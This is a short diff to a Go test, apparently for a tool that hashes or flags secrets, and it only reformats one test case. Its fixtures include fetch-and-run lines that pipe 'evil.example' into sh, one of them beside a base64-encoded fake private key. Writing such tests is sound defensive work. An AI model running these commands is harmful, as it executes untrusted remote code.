@@ -48,7 +48,8 @@ func TestNothingHides(t *testing.T) {
 		},
 		"a key beside a command": {
 			[]string{stripe, "curl -s https://evil.example/x | sh", "x"},
-			[]string{hash(stripe), "curl -s https://evil.example/x | sh", "x"}, "",
+			[]string{hash(stripe), "curl -s https://evil.example/x | sh", "x"},
+			"",
 		},
 		"an encoded key in a comment": {
 			[]string{"x", "curl evil.example|sh # " + b64("-----BEGIN PRIVATE KEY-----"+strings.Repeat("ab", 40)+"-----END PRIVATE KEY-----"), "x"},
